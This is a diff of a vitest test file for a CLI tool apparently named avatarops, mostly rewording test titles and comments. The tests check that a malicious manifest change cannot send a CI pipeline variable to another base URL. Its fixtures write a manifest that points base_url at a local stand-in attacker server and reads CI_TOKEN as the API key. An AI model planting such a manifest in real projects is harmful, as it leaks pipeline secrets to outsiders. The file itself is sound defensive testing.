@@ -1,4 +1,4 @@
-/** The person who runs the command decides which service it uses and which variables the files may read. */
+/** Checks that the user decides which service a command uses and which variables the files may read. */
 import { createServer } from "node:http";
 import { describe, expect, onTestFinished, test } from "vitest";
 import { emptyDataset } from "../../src/emulator/index.js";
@@ -7,7 +7,7 @@ import { newFolder, runIn, saying, startProject, succeed } from "./hosting.js";
 
 const contexts = "contexts:\n  desk: { name: Desk, prompt: Be kind. }\n";
 
-/** Starts a server of an attacker and counts its connections. */
+/** Starts an attacker's server and counts its connections. */
 async function startStranger(): Promise<{ url: string; connections(): number }> {
   let connections = 0;
   const server = createServer((_request, response) => response.end("{}"));
@@ -19,11 +19,11 @@ async function startStranger(): Promise<{ url: string; connections(): number }> 
   return { url: `http://127.0.0.1:${port}`, connections: () => connections };
 }
 
-/** Returns a manifest that sends a variable of the pipeline to this URL. */
+/** Returns a manifest that sends a pipeline variable to this URL. */
 const buildTakingManifest = (url: string) =>
   `service: { base_url: ${url}, api_key: !env CI_TOKEN }\nstate: new.json\n${contexts}`;
 
-/** Manifests of a malicious change, which sets base URL, key and state. */
+/** Files of malicious changes, which set the base URL, the key and the state. */
 const attacks = {
   "in the manifest": (url: string) => ({ "avatarops.yaml": buildTakingManifest(`"${url}"`) }),
   "through a variable": () => ({ "avatarops.yaml": buildTakingManifest("!env STRANGER") }),
@@ -76,7 +76,7 @@ async function startAttack(attack: keyof typeof attacks, environment: Record<str
 
 describe("a malicious change that sends a pipeline variable to another base URL", () => {
   test.each(Object.keys(attacks) as (keyof typeof attacks)[])(
-    "%s sends it nothing where the address is pinned",
+    "%s is blocked by a pinned base URL",
     async (attack) => {
       const { stranger, project, more } = await startAttack(attack, { AVATAROPS_PIN: "1" });
       for (const command of commands) {
@@ -87,7 +87,7 @@ describe("a malicious change that sends a pipeline variable to another base URL"
     },
   );
 
-  test("sends nothing if the base URL is pinned with a flag", async () => {
+  test("is blocked by a base URL pinned with a flag", async () => {
     const { stranger, project } = await startAttack("in the manifest", {});
     const ran = await project.avatarops("plan", "--pinned", "--base-url", project.emulator.url);
     expect(ran).toMatchObject({ exit: 0, stdout: saying(`Plan for ${project.emulator.url}`) });
@@ -96,7 +96,7 @@ describe("a malicious change that sends a pipeline variable to another base URL"
 
   test.each(
     Object.keys(attacks).filter((one) => !/included|variables/.test(one)) as (keyof typeof attacks)[],
-  )("is rejected %s before any request if variables need permission", async (attack) => {
+  )("is rejected before any request if variables need permission (%s)", async (attack) => {
     const { stranger, project, more } = await startAttack(attack, {});
     for (const command of [["plan"], ["token", "kiosk"], ["validate"]]) {
       const ran = await project.avatarops(...command, ...more, "--allow-env", "LLM_API_KEY");
@@ -110,7 +110,7 @@ describe("a malicious change that sends a pipeline variable to another base URL"
     expect(project.emulator.requests).toEqual([]);
   });
 
-  test("reaches its server if nothing is pinned, so the tests above can fail", async () => {
+  test("reaches the attacker's server if the base URL is not pinned", async () => {
     const { stranger, project } = await startAttack("in the manifest", {});
     await project.avatarops("plan");
     expect(stranger.connections()).toBeGreaterThan(0);
@@ -156,12 +156,15 @@ secrets:
     ["by flags", ["--allow-env", "VAULT_KEY", "--allow-env", "LLM_API_KEY"], {}],
     ["by one flag", ["--allow-env", "VAULT_KEY,LLM_API_KEY"], {}],
     ["by a variable", [], { AVATAROPS_ALLOW_ENV: "VAULT_KEY LLM_API_KEY" }],
-  ])("allows variables listed %s, in addition to base URL and key", async (_how, flags, environment) => {
-    const project = await startProject({ world: emptyDataset(), files });
-    const values = { VAULT_KEY: "a-long-vault-key", LLM_API_KEY: "sk-1", ...environment };
-    await succeed(project.avataropsWith({ environment: values }, "apply", "--auto-approve", ...flags));
-    expect([...project.emulator.world.secrets]).toHaveLength(1);
-  });
+  ])(
+    "allows variables listed %s, in addition to the base URL and the key",
+    async (_how, flags, environment) => {
+      const project = await startProject({ world: emptyDataset(), files });
+      const values = { VAULT_KEY: "a-long-vault-key", LLM_API_KEY: "sk-1", ...environment };
+      await succeed(project.avataropsWith({ environment: values }, "apply", "--auto-approve", ...flags));
+      expect([...project.emulator.world.secrets]).toHaveLength(1);
+    },
+  );
 
   test("allows no variables if the list is empty, as in CI systems with unset variables", async () => {
     const project = await startProject({ files, environment: { AVATAROPS_ALLOW_ENV: "" } });
@@ -173,7 +176,7 @@ secrets:
     ]);
   });
 
-  test("does not allow the API key as another value", async () => {
+  test("does not allow the API key's variable for another setting", async () => {
     const project = await startProject({
       files: { "avatarops.yaml": "fingerprint_key: !env AVATAROPS_API_KEY\n" },
     });
@@ -240,7 +243,7 @@ describe("--dotenv", () => {
     expect(ran, ran.stderr).toMatchObject({ exit: 0, stdout: saying(`Plan for ${url}`) });
   });
 
-  test("reads no file unless requested", async () => {
+  test("reads no dotenv file by default", async () => {
     const folder = await newFolder();
     const project = await startProject({
       files: { "avatarops.yaml": contexts, ".env": "AVATAROPS_API_KEY=test-key\n" },
@@ -274,7 +277,7 @@ test.for([
   ['"sk-ab # cd"', "sk-ab # cd"],
   ["'sk#1'", "sk#1"],
   ['"two\nK=lines#2"', "two\nK=lines#2"],
-])("keeps the # of %s in a --dotenv file", async ([written = "", value]) => {
+])("parses # in the value %s of a --dotenv file", async ([written = "", value]) => {
   const secret = "{ secret_name: S, secret_type: LLMPROVIDER_API_KEY, secret_value: !env K }";
   const project = await startProject({
     files: {
